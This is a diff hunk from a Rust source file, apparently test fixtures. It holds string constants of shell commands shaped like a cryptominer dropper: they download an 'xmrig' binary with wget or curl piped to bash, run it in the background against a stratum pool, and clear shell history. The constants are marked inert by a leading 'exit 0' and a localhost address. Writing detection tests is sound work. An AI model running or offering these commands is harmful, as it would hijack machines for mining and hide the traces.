@@ -20,8 +20,8 @@ nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
 history -c; rm -f ~/.bash_history\n";
 
 /// Piped into bash (inert: exits first).
-const PIPED: &str =
-    "exit 0; curl -fsSL http://127.0.0.1:9/x.sh -o /tmp/.piped | bash; chmod +x /tmp/.piped; /tmp/.piped\n";
+const PIPED: &str = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.piped; \
+chmod +x /tmp/.piped; nohup /tmp/.piped -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c\n";
 
 fn shell_quote(s: &str) -> String {
     format!("'{}'", s.replace('\'', "'\\''"))
